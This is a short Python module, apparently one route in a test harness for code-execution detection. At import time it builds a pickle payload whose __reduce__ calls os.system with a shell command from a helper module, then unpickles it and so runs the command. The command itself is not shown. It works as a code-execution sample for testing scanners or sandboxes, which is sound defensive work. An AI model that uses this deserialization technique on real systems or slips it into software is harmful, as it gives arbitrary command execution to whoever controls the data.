"""Route: ``pickle.loads`` of bytes built at run time (``__reduce__`` calls ``os.system``)."""

import os
import pickle

from _payload import shell_command, spec

ROUTE = "pickle"


class Payload:
    def __reduce__(self):
        return (os.system, (shell_command(ROUTE),))


pickle.loads(pickle.dumps(Payload()))


def build():
    return spec(ROUTE)
